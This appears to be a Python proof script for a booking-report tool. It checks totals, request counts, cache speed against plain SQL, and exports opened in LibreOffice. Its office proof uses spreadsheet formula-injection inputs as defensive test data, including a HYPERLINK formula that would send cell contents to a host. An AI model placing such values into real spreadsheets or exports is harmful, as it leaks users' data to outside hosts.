"""Reports at full size, with figures: too long for the suite, whose short forms prove the same.

python -m tests.report_proof            # all of them, a minute and a half
python -m tests.report_proof month      # 12,345 bookings, 99 of them in one second
python -m tests.report_proof store      # 100,000 remembered bookings beside plain SQL
python -m tests.report_proof office     # the files in LibreOffice (skipped where there is none)
"""

from __future__ import annotations

import asyncio
import csv
import io
import random
import shutil
import sqlite3
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from math import ceil
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

from pm_tui import config, i18n
from pm_tui.cache import faults
from pm_tui.cache.moments import utc_now
from pm_tui.cache.reports import NAME, Part, ReportStore
from pm_tui.models.result import Result
from pm_tui.services.report import Report, Row, Total, rows_of
from pm_tui.services.report_files import as_csv, as_german_csv
from pm_tui.services.report_period import Period
from pm_tui.services.report_reference import Reader
from pm_tui.services.report_rows import By, Key, entry_of
from pm_tui.services.report_xlsx import as_workbook
from pm_tui.services.session import Session
from tests.sandbox_process import Sandbox, start_sandbox

BERLIN = ZoneInfo("Europe/Berlin")
OCTOBER = Period.month(2026, 10, BERLIN)
NUMBER, IN_A_SECOND = 12_345, 99
SECOND = "2026-10-14T09:30:07Z"
REMEMBERED = 100_000
ROUNDS = 7


def month() -> bool:
    """Proof 1: whole to the cent, for less than twice the least possible number of requests."""
    ok: bool = True
    with start_sandbox() as box, tempfile.TemporaryDirectory() as home:
        span = {"since": _wire(OCTOBER.start), "to": _wire(OCTOBER.end)}
        rest = NUMBER - IN_A_SECOND
        box.seed(bookings=rest, burst={"at": SECOND, "bookings": IN_A_SECOND}, **span)
        wanted, number = _truth(box)
        least = ceil(number / 100)
        box.clear_log()
        began = time.perf_counter()
        report = asyncio.run(_reported(box, Path(home)))
        took = time.perf_counter() - began
        spent = sum(one["path"].endswith("/bookings") for one in box.log())
        total = sum((one.total for one in report.totals), Decimal(0))
        print(f"bookings        {number:,} ({IN_A_SECOND} in one second), read {report.bookings:,}")
        print(f"total           {total} beside {wanted} of the server's state")
        print(f"requests        {spent}, least possible {least}: {spent / least:.2f} times")
        print(
            f"seconds         {took:.1f} (no limit a minute; with 80 a minute {spent / 80:.1f} min)"
        )
        ok = total == wanted and report.bookings == number and report.complete
        ok = ok and spent <= 2 * least
        box.clear_log()
        again = asyncio.run(_reported(box, Path(home)))
        print(f"again           {again.requests} request, {again.checked} bookings compared")
        ok &= again.requests == 1 and again.totals == report.totals
        box.seed(burst={"at": SECOND, "bookings": 150 - IN_A_SECOND}, seed=9)
        with tempfile.TemporaryDirectory() as other:
            short = asyncio.run(_reported(box, Path(other)))
        print(f"150 in a second complete={short.complete}: {short.problems[0]}")
        ok &= not short.complete
    return bool(ok)


async def _reported(box: Sandbox, home: Path) -> Report:
    env = {
        "HOME": str(home), "LANG": "C.UTF-8", "PM_TUI_CONFIG": str(home / "none.toml"),
        "PM_TUI_CACHE_DIR": str(home / "cache"), "PM_TUI_STATE_DIR": str(home / "state"),
        "PM_TUI_API_KEY": box.api_key, "PM_TUI_BASE_URL": box.base_url,
    }  # fmt: skip
    (home / "none.toml").touch()
    async with Session(config.load({}, env)) as session:
        return (await session.report(OCTOBER, status=None)).value


def _truth(box: Sandbox) -> tuple[Decimal, int]:
    rows = [
        one
        for one in box.bookings(history=True)
        if OCTOBER.start <= datetime.fromisoformat(one["created_at"]) < OCTOBER.end
    ]
    prices = (Decimal(str(one["client_price"])) for one in rows if one["client_price"] is not None)
    return sum(prices, Decimal(0)), len(rows)


def _wire(moment: datetime) -> str:
    return moment.astimezone(UTC).isoformat().replace("+00:00", "Z")


def store() -> bool:
    """Proof 4: a report of 100,000 remembered bookings beside plain SQL over the same rows."""
    rng = random.Random(1)
    with tempfile.TemporaryDirectory() as home:
        kept = ReportStore(Path(home), faults.Notices(), utc_now)
        reader = Reader()
        began = time.perf_counter()
        raws = [_a_booking(n, rng) for n in range(REMEMBERED)]
        entries = [entry_of(raw, reader, OCTOBER.start) for raw in raws]
        kept.keep(Part(OCTOBER.start, OCTOBER.end, utc_now()), entries)
        print(f"remembered      {REMEMBERED:,} in {time.perf_counter() - began:.1f} s")
        plain = sqlite3.connect(Path(home) / NAME)
        ok = True
        columns: tuple[By, ...] = ("department", "employee", "day")
        for by in columns:
            sql = (
                "SELECT department, count(*), sum(price) FROM booking GROUP BY department"
                if by != "employee"
                else "SELECT employee, count(*), sum(price) FROM booking GROUP BY employee"
            )
            ours = _median(lambda by=by: rows_of(kept, OCTOBER, by, "COMPLETED"))  # type: ignore[misc]
            theirs = _median(lambda sql=sql: plain.execute(sql).fetchall())  # type: ignore[misc]
            told = f"{ours * 1000:.0f} ms, plain SQL {theirs * 1000:.0f} ms"
            print(f"by {by:12} {told}: {ours / theirs:.2f} times")
            ok &= ours < 3 * theirs
        _rows, totals = rows_of(kept, OCTOBER, "department", None)
        exact = sum((raw["client_price"] for raw in raws if raw["client_price"]), Decimal(0))
        print(f"total           {totals[0].total} beside {exact}")
        ok &= totals[0].total == exact
        plain.close()
        kept.close()
    return ok


def _a_booking(number: int, rng: random.Random) -> dict[str, Any]:
    made = OCTOBER.start + timedelta(seconds=rng.random() * 31 * 86_400)
    department = rng.choice(("sales", "engineering", "field-service", "it", "logistics"))
    return {
        "id": f"{number:08x}-0000-4000-8000-000000000000",
        "status": "COMPLETED" if rng.random() < 0.8 else "CANCELLED",
        "created_at": made.isoformat(),
        "client_price": None if rng.random() < 0.02 else Decimal(rng.randrange(100, 9000)) / 100,
        "client_price_currency": "EUR",
        "external_id": f"{department}-emp{rng.randrange(400):03}-{made:%Y%m%d}",
        "location_city": rng.choice(("Berlin", "Köln", "München")),
        "location_id": f"DE-{rng.choice(('ENB', 'ION'))}-E{number % 900}",
    }


def _median(work: Callable[[], object]) -> float:
    times = []
    for _round in range(ROUNDS):
        began = time.process_time()  # others may use this computer meanwhile
        work()
        times.append(time.process_time() - began)
    return statistics.median(times)


EVIL = '=HYPERLINK("http://127.0.0.1/?"&A1,"x")'


def office() -> bool | None:
    """Proof 5: CSV and workbook opened by LibreOffice: the same totals, no formula, umlauts."""
    program = shutil.which("soffice") or shutil.which("libreoffice")
    if program is None:
        print("office          skipped: there is no soffice here")
        return None
    rows = tuple(
        Row(Key("value", name), "EUR", 1, 0, Decimal(amount))
        for name, amount in (
            ("Außendienst München", "1234.56"), (EVIL, "0.05"), ("@SUM(1;2)", "0.10"),
            ("+1-1", "7.00"),
        )
    )  # fmt: skip
    total = sum((row.total for row in rows), Decimal(0))
    report = Report(
        OCTOBER, "department", None, rows, (Total("EUR", 4, 0, total),), until=OCTOBER.end
    )
    result = Result(report, "live", datetime(2026, 11, 1, tzinfo=UTC))
    i18n.use("de")
    ok = True
    with tempfile.TemporaryDirectory() as home:
        folder = Path(home)
        files = {"plain.csv": as_csv(result), "german.csv": as_german_csv(result)}
        files["book.xlsx"] = as_workbook(result, ())
        for name, body in files.items():
            (folder / name).write_bytes(body)
            told = _opened(program, folder, name)
            amounts = [_amount(line, name) for line in told]
            found = sum((one for one in amounts if one is not None), Decimal(0))
            text = "\n".join(";".join(line) for line in told)
            good = found == total and "Außendienst München" in text and "'" + EVIL in text
            good = good and "'@SUM(1;2)" in text and "'+1-1" in text
            print(f"{name:15} total {found} beside {total}, texts as they were: {good}")
            ok &= good
    return ok


def _opened(program: str, folder: Path, name: str) -> list[list[str]]:
    """The first sheet as LibreOffice sees it: opened, computed, and written as CSV again."""
    options = {"plain.csv": "44,34,76,1,,1033", "german.csv": "59,34,76,1,,1031"}
    how = [f"--infilter=CSV:{options[name]}"] if name in options else []
    out = folder / "out"
    subprocess.run(
        [program, f"-env:UserInstallation=file://{folder}/profile", "--headless", *how,
         "--convert-to", "csv:Text - txt - csv (StarCalc):59,34,76,1,,1033,false,true,false",
         "--outdir", str(out), str(folder / name)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    body = (out / Path(name).with_suffix(".csv").name).read_text()
    return list(csv.reader(io.StringIO(body), delimiter=";"))


def _amount(line: list[str], name: str) -> Decimal | None:
    """The total of a row of ours; None for titles, notes and the workbook's own line of totals."""
    texts = {"Außendienst München", "'" + EVIL, "'@SUM(1;2)", "'+1-1"}
    column = 4 if name.endswith(".xlsx") else 6
    return Decimal(line[column]) if texts & set(line) else None


def main() -> int:
    proofs: dict[str, Callable[[], bool | None]] = {
        "month": month,
        "store": store,
        "office": office,
    }
    wanted = sys.argv[1:] or list(proofs)
    failed = [name for name in wanted if proofs[name]() is False]
    print("failed: " + ", ".join(failed) if failed else "all shown")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
